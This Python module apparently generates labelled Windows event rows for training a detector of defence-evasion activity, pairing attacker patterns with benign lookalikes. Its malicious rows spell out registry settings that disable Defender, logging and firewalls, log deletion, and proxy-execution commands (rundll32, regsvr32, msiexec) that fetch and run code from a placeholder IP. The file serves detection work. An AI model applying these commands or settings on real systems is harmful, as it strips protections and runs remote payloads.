"""Events of impaired defences, removed traces, renamed and proxied programs, and what looks like them."""

from __future__ import annotations

from training.generators.attack_rows import parse_events

EVASION_EVENTS = parse_events(
    r"""
# Defences and logs
defender-policy value +T1685: ‹writer› ;; HKLM\SOFTWARE\«Policies\¦»Microsoft\Windows Defender\«DisableAntiSpyware¦DisableAntiVirus¦Real-Time Protection\«DisableRealtimeMonitoring¦DisableBehaviorMonitoring¦DisableIOAVProtection¦DisableScriptScanning¦DisableOnAccessProtection»¦Spynet\DisableBlockAtFirstSeen¦MpEngine\MpEnablePus_Disabled» ;; DWORD (0x00000001)
defender-exclusion value +T1685: «‹writer›¦C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2‹n›.7-0\MsMpEng.exe» ;; HKLM\SOFTWARE\«Policies\¦»Microsoft\Windows Defender\Exclusions\«Paths\‹ownplace›¦Extensions\«exe¦dll¦ps1»¦Processes\‹name›.exe¦Paths\C:\» ;; DWORD (0x00000000)
near-defender-exclusion value: C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2‹n›.7-0\MsMpEng.exe ;; HKLM\SOFTWARE\Microsoft\Windows Defender\«Signature Updates\SignatureLocation¦Scan\LastScanRun¦Real-Time Protection\DpaDisabled¦Diagnostics\CloudBadListVersion» ;; «DWORD (0x00000000)¦Binary Data¦C:\ProgramData\Microsoft\Windows Defender\Definition Updates\‹guid›»
defender-service-key value +T1685: ‹writer› ;; HKLM\System\CurrentControlSet\Services\«WinDefend¦WdNisSvc¦Sense¦SecurityHealthService¦WdFilter¦SysmonDrv¦Sysmon64»\Start ;; DWORD (0x00000004)
defender-service-7040 log +T1685: Service Control Manager|System|7040 ;; param1=«Windows Defender Antivirus Service¦Microsoft Defender Antivirus Service¦Windows Defender Advanced Threat Protection Service¦Security Center¦Sysmon64» ;; param2=«auto start¦demand start» ;; param3=disabled ;; param4=«WinDefend¦Sense¦wscsvc¦Sysmon64»
near-service-7040 log: Service Control Manager|System|7040 ;; param1=«Background Intelligent Transfer Service¦Windows Modules Installer¦‹Word› Service¦Windows Update» ;; param2=«auto start¦demand start» ;; param3=«demand start¦auto start¦disabled» ;; param4=«BITS¦TrustedInstaller¦‹Word›Svc¦wuauserv»
defender-off-5001 log +T1685: Microsoft-Windows-Windows Defender|Microsoft-Windows-Windows Defender/Operational|«5001¦5010¦5012¦5101» ;; Product Name=%%827 ;; Product Version=4.18.2‹n›.7
amsi-key deletedkey +T1685: ‹writer› ;; HKLM\SOFTWARE\Microsoft\AMSI\Providers\{2781761E-28E0-4109-99FE-B9D127C57AFE}
ps-logging-key value +T1685.001: ‹writer› ;; HKLM\SOFTWARE\Policies\Microsoft\Windows\PowerShell\«ScriptBlockLogging\EnableScriptBlockLogging¦ModuleLogging\EnableModuleLogging¦Transcription\EnableTranscripting» ;; DWORD (0x00000000)
near-ps-logging-key value: «‹s32›\svchost.exe¦‹reg›¦‹ps›» ;; HKLM\SOFTWARE\Policies\Microsoft\Windows\PowerShell\«ScriptBlockLogging\EnableScriptBlockLogging¦ModuleLogging\EnableModuleLogging¦Transcription\EnableTranscripting¦ExecutionPolicy» ;; «DWORD (0x00000001)¦RemoteSigned»
eventlog-key value +T1685.001: ‹writer› ;; HKLM\System\CurrentControlSet\«Services\EventLog\Start¦Services\EventLog\«Security¦System»\File¦Control\MiniNt\(Default)¦Control\WMI\Autologger\EventLog-«Security¦System»\Start» ;; «DWORD (0x00000004)¦DWORD (0x00000000)¦‹ownplace›\‹name›.evtx»
eventlog-channel value +T1685.001: ‹writer› ;; HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\WINEVT\Channels\Microsoft-Windows-«Sysmon/Operational¦PowerShell/Operational¦Windows Defender/Operational¦TaskScheduler/Operational»\Enabled ;; DWORD (0x00000000)
near-eventlog-channel value: «‹s32›\svchost.exe¦‹s32›\wevtutil.exe» ;; HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\WINEVT\Channels\Microsoft-Windows-«‹Word›/Operational¦PowerShell/Operational¦TaskScheduler/Operational»\«Enabled¦MaxSize» ;; «DWORD (0x00000001)¦DWORD (0x04000000)»
command-audit-key value +T1685.001: ‹writer› ;; HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\Audit\ProcessCreationIncludeCmdLine_Enabled ;; DWORD (0x00000000)
audit-4719 security +T1685.001: 4719 ;; CategoryId=«%%8274¦%%8272¦%%8276» ;; SubcategoryId=«%%13312¦%%12544¦%%12800¦%%13824» ;; AuditPolicyChanges=«%%8448¦%%8448, %%8450¦%%8450»
near-audit-4719 security: 4719 ;; CategoryId=«%%8274¦%%8272¦%%8276» ;; SubcategoryId=«%%13312¦%%12544¦%%12800» ;; AuditPolicyChanges=«%%8449¦%%8449, %%8451»
evtx-deleted deleted +T1685.005: «‹cmd›¦‹ps›¦‹own›» ;; C:\Windows\System32\winevt\Logs\«Security¦System¦Application¦Microsoft-Windows-Sysmon%4Operational¦Windows PowerShell».evtx
firewall-rule-log log +T1686.003: Microsoft-Windows-Windows Firewall With Advanced Security|Microsoft-Windows-Windows Firewall With Advanced Security/Firewall|«2004¦2097» ;; RuleName=‹name› ;; ApplicationPath=‹own› ;; Direction=1 ;; Protocol=6 ;; LocalPorts=* ;; Action=3 ;; ModifyingApplication=«‹s32›\netsh.exe¦‹ps›¦‹own›»
firewall-off-log log +T1686.003: Microsoft-Windows-Windows Firewall With Advanced Security|Microsoft-Windows-Windows Firewall With Advanced Security/Firewall|2003 ;; Profiles=«1¦2¦4» ;; SettingType=1 ;; SettingValueString=No ;; ModifyingApplication=«‹s32›\netsh.exe¦‹ps›¦‹s32›\wbem\WmiPrvSE.exe»
firewall-deleted-log log +T1686.003: Microsoft-Windows-Windows Firewall With Advanced Security|Microsoft-Windows-Windows Firewall With Advanced Security/Firewall|2033 ;; Profiles=2147483647 ;; ModifyingApplication=«‹s32›\netsh.exe¦‹ps›¦‹own›»
near-firewall-rule-log log: Microsoft-Windows-Windows Firewall With Advanced Security|Microsoft-Windows-Windows Firewall With Advanced Security/Firewall|«2004¦2005¦2006» ;; RuleName=«‹Word›¦Microsoft Edge (mDNS-In)¦Core Networking - IPv6» ;; ApplicationPath=«C:\Program Files\‹Word›\‹name›.exe¦C:\Windows\System32\svchost.exe» ;; Direction=1 ;; Protocol=«6¦17» ;; Action=3 ;; ModifyingApplication=«‹s32›\svchost.exe¦‹s32›\msiexec.exe¦C:\Program Files\‹Word›\‹name›.exe»
firewall-key value +T1686.003: ‹writer› ;; HKLM\System\CurrentControlSet\Services\SharedAccess\Parameters\FirewallPolicy\«StandardProfile¦PublicProfile¦DomainProfile»\EnableFirewall ;; DWORD (0x00000000)
near-firewall-key value: «‹s32›\svchost.exe¦‹reg›» ;; HKLM\System\CurrentControlSet\Services\SharedAccess\Parameters\FirewallPolicy\«StandardProfile\EnableFirewall¦FirewallRules\‹guid›¦PublicProfile\DisableNotifications» ;; «DWORD (0x00000001)¦v2.30|Action=Allow|Active=TRUE|Dir=In|Protocol=6|App=C:\Program Files\‹Word›\‹name›.exe|Name=‹Word›|»
safeboot-key value +T1688: ‹writer› ;; HKLM\System\CurrentControlSet\Control\SafeBoot\«Minimal¦Network»\‹name›\(Default) ;; Service
# Registry that weakens the host
modify-weaken value +T1112: ‹writer› ;; HKLM\System\CurrentControlSet\Control\«Lsa\«DisableRestrictedAdmin¦LmCompatibilityLevel¦NoLMHash¦LimitBlankPasswordUse»¦Terminal Server\WinStations\RDP-Tcp\UserAuthentication» ;; DWORD (0x00000000)
modify-policies value +T1112: ‹writer› ;; «HKLM\SOFTWARE¦‹hku›\Software»\Microsoft\Windows\CurrentVersion\Policies\«System\«DisableTaskMgr¦DisableRegistryTools¦DisableCMD¦LocalAccountTokenFilterPolicy¦DisableLockWorkstation»¦Explorer\«NoRun¦NoClose¦NoControlPanel¦NoLogOff¦HideSCAHealth»» ;; DWORD (0x00000001)
modify-wdigest value +T1112: ‹writer› ;; HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest\«UseLogonCredential¦Negotiate» ;; DWORD (0x00000001)
modify-stored-script value +T1112: «‹writer›¦‹shells›» ;; ‹hku›\Software\«‹name›¦Microsoft\‹name›»\‹name› ;; «‹enc›¦powershell -w hidden -enc ‹enc›»
rdp-enable value +T1021.001: ‹writer› ;; HKLM\System\CurrentControlSet\Control\Terminal Server\fDenyTSConnections ;; DWORD (0x00000000)
rdp-port value +T1021.001: ‹writer› ;; HKLM\System\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp\PortNumber ;; DWORD (0x00001189)
office-macro-key value +T1112: ‹writer› ;; ‹hku›\Software\«Policies\¦»Microsoft\Office\16.0\«Word¦Excel»\Security\«VBAWarnings¦AccessVBOM¦ProtectedView\DisableInternetFilesInPV¦ProtectedView\DisableAttachementsInPV» ;; DWORD (0x00000001)
near-policy-values value: «‹s32›\svchost.exe¦‹reg›¦‹ps›» ;; HKLM\«SOFTWARE\Policies\Microsoft\Windows NT\Terminal Services\fDenyTSConnections¦System\CurrentControlSet\Control\Lsa\LmCompatibilityLevel¦SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\shutdownwithoutlogon» ;; DWORD (0x0000000«1¦5»)
near-user-values value: «C:\Windows\explorer.exe¦‹reg›¦‹ps›¦‹own›» ;; ‹hku›\Software\«‹Word›\‹Word›\«Version¦LastRun¦Theme»¦Microsoft\Windows\CurrentVersion\Explorer\«Advanced\TaskbarAl¦ComDlg32\LastVisitedPidlMRU\‹n›¦SessionInfo\1\‹name›»» ;; «‹n›.0.‹n›¦DWORD (0x0000000‹n›)¦Binary Data¦dark»
root-cert-key value +T1553.004: «‹writer›¦‹s32›\certutil.exe» ;; «HKLM\SOFTWARE¦‹hku›\Software»\«Policies\¦»Microsoft\SystemCertificates\ROOT\Certificates\‹hash›\Blob ;; Binary Data
near-cert-key value: «‹s32›\«svchost¦lsass».exe¦‹browser›» ;; HKLM\SOFTWARE\Microsoft\SystemCertificates\«AuthRoot¦CA¦MY»\Certificates\‹hash›\Blob ;; Binary Data
sip-key value +T1553.003: ‹writer› ;; HKLM\SOFTWARE\Microsoft\Cryptography\«OID\EncodingType 0\CryptSIPDllVerifyIndirectData\‹guid›\Dll¦Providers\Trust\FinalPolicy\‹guid›\$DLL» ;; ‹ownplace›\‹name›.dll
recovery-key value +T1490: ‹writer› ;; HKLM\SOFTWARE\«Policies\Microsoft\Windows NT\SystemRestore\«DisableSR¦DisableConfig»¦Microsoft\Windows NT\CurrentVersion\SystemRestore\DisableSR» ;; DWORD (0x00000001)
# Files and time
timestomp-event time +T1070.006: «‹own›¦‹ps›» ;; «‹ownplace›\‹name›.«exe¦dll¦ps1»¦C:\Windows\System32\‹name›.«exe¦dll»»
near-time-event time: «C:\Windows\explorer.exe¦‹browser›¦‹s32›\«msiexec¦svchost».exe¦C:\Program Files\7-Zip\7zG.exe» ;; «C:\Users\‹user›\Downloads\‹name›.«zip¦tmp¦docx»¦C:\Program Files\‹Word›\‹name›.dll»
prefetch-deleted deleted +T1070.004: «‹cmd›¦‹ps›¦‹own›» ;; C:\Windows\Prefetch\«POWERSHELL¦CMD¦‹name›».EXE-‹n›A3F2B1.pf
sdelete-deleted deleted +T1070.004: ‹ownplace›\sdelete«64¦».exe ;; ‹ownplace›\«AAAAAAAAAAA.AAA¦ZZZZZZZZZ.ZZZ¦‹name›.exe»
ps-history-deleted deleted +T1070.003: «‹cmd›¦‹ps›¦‹own›» ;; C:\Users\‹user›\AppData\Roaming\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt
near-deleted deleted: «‹cmd›¦‹ps›¦‹legit›¦‹browser›» ;; «‹ownplace›\‹name›.«tmp¦log¦txt»¦C:\Users\‹user›\AppData\Local\Temp\‹name›.tmp¦C:\Program Files\‹Word›\old\‹name›.dll»
hidden-stream-event stream +T1564.004: «‹cmd›¦‹ps›¦‹own›» ;; ‹ownplace›\‹name›.«txt¦log¦dat¦doc»:‹name›.«exe¦ps1¦vbs¦dll» ;; -
# Renamed and proxied programs
renamed-original sysmon +T1036.003: 1 ;; Image=‹ownplace›\«svchost¦‹name›¦lsm¦notepad».exe ;; Description=«Windows Command Processor¦Windows PowerShell¦Microsoft ® Windows Based Script Host¦Windows host process (Rundll32)» ;; Product=Microsoft® Windows® Operating System ;; Company=Microsoft Corporation ;; OriginalFileName=«Cmd.Exe¦PowerShell.EXE¦wscript.exe¦cscript.exe¦RUNDLL32.EXE» ;; CommandLine=‹ownplace›\‹name›.exe ;; User=‹domain›\‹user› ;; ParentImage=‹cmd› ;; ParentCommandLine=cmd.exe
system-name-elsewhere process +T1036.005: @ ;; ‹ownplace›\«svchost¦lsass¦csrss¦services¦winlogon¦smss¦taskhostw¦conhost».exe« -k netsvcs¦» ;; «‹cmd›¦‹ps›¦C:\Windows\explorer.exe¦‹own›»
system-name-file file +T1036.005: «‹cmd›¦‹ps›¦‹own›» ;; «‹ownplace›¦C:\Windows»\«svchost¦lsass¦csrss¦services¦winlogon¦smss¦spoolsv».exe
near-system-name process: @ ;; «C:\Windows\System32\svchost.exe -k «netsvcs -p -s Schedule¦LocalServiceNetworkRestricted -p¦wsappx -p»¦C:\Windows\System32\taskhostw.exe¦C:\Windows\System32\conhost.exe 0xffffffff -ForceV1¦C:\Windows\System32\smss.exe 000000d0 00000084» ;; ‹s32›\«services¦svchost¦smss».exe
office-proxy process +T1218.011: @ ;; rundll32.exe «‹ownplace›\‹name›.«dll¦dat¦tmp»,«‹Word›¦DllRegisterServer¦#1»¦javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://‹ip›/‹name›")» ;; «C:\Windows\explorer.exe¦‹cmd›¦‹ps›¦‹office›»
regsvr-process process +T1218.010: @ ;; regsvr32.exe «/s /n /u /i:http«s¦»://‹ip›/‹name›.sct scrobj.dll¦/s ‹ownplace›\‹name›.«dll¦ocx¦dat¦tmp»» ;; «C:\Windows\explorer.exe¦‹cmd›¦‹ps›¦‹office›»
cmstp-child process +T1218.003: @ ;; «cmd.exe /c ‹own›¦powershell -enc ‹enc›¦‹own›» ;; ‹sys›\cmstp.exe ;; cmstp.exe /s ‹ownplace›\‹name›.inf
msiexec-child process +T1218.007: @ ;; «cmd.exe /c ‹own›¦powershell.exe -nop -w hidden -enc ‹enc›» ;; ‹sys›\msiexec.exe ;; msiexec.exe /q /i http://‹ip›/‹name›.msi
msbuild-child process +T1127.001: @ ;; «cmd.exe¦powershell.exe -nop -enc ‹enc›¦‹own›» ;; C:\Windows\Microsoft.NET\Framework«64¦»\v4.0.30319\MSBuild.exe ;; MSBuild.exe ‹ownplace›\‹name›.«csproj¦xml»
installutil-child process +T1218.004: @ ;; «cmd.exe¦powershell.exe -nop -enc ‹enc›¦‹own›» ;; C:\Windows\Microsoft.NET\Framework«64¦»\v4.0.30319\InstallUtil.exe ;; InstallUtil.exe /logfile= /LogToConsole=false /U ‹own›
hh-child process +T1218.001: @ ;; «cmd.exe /c ‹own›¦powershell.exe -nop -w hidden -enc ‹enc›¦‹own›» ;; C:\Windows\hh.exe ;; "C:\Windows\hh.exe" ‹ownplace›\‹name›.chm
wmic-xsl-load loadsigned +T1220: ‹sys›\wbem\WMIC.exe ;; ‹s32›\«jscript¦vbscript¦jscript9».dll
compile-temp process +T1027.004: C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe ;; "C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe" «/out:‹own› ‹ownplace›\‹name›.cs¦/target:exe /out:‹own› ‹ownplace›\‹name›.txt» ;; «‹cmd›¦‹own›¦‹sys›\wscript.exe»
near-proxied process: @ ;; «regsvr32.exe /s "C:\Program Files\‹Word›\‹name›.dll"¦rundll32.exe "C:\Program Files\‹Word›\‹name›.dll",Start¦msiexec.exe /i "\\‹server›\software\‹Word›.msi" /qn¦"C:\Windows\hh.exe" "C:\Program Files\‹Word›\help.chm"¦rundll32.exe shell32.dll,Control_RunDLL appwiz.cpl» ;; «C:\Windows\explorer.exe¦‹cmd›¦‹ps›¦‹s32›\msiexec.exe»
near-msiexec-child process: @ ;; «"C:\Program Files\‹Word›\‹name›.exe" /register¦C:\Windows\syswow64\MsiExec.exe -Embedding ‹hash›¦cmd.exe /c "C:\Program Files\‹Word›\setup.cmd"¦regsvr32.exe /s "C:\Program Files\‹Word›\‹name›.dll"» ;; ‹s32›\msiexec.exe ;; C:\Windows\system32\msiexec.exe /V
code-integrity log +T1068: Microsoft-Windows-CodeIntegrity|Microsoft-Windows-CodeIntegrity/Operational|30«77¦23» ;; FileNameBuffer=\Device\HarddiskVolume‹n›\«Users\‹user›\AppData\Local\Temp¦Windows\Temp»\«RTCore64¦gdrv¦dbutil_2_3¦mhyprot2¦aswArPot¦procexp152».sys ;; ProcessNameBuffer=System
"""
)
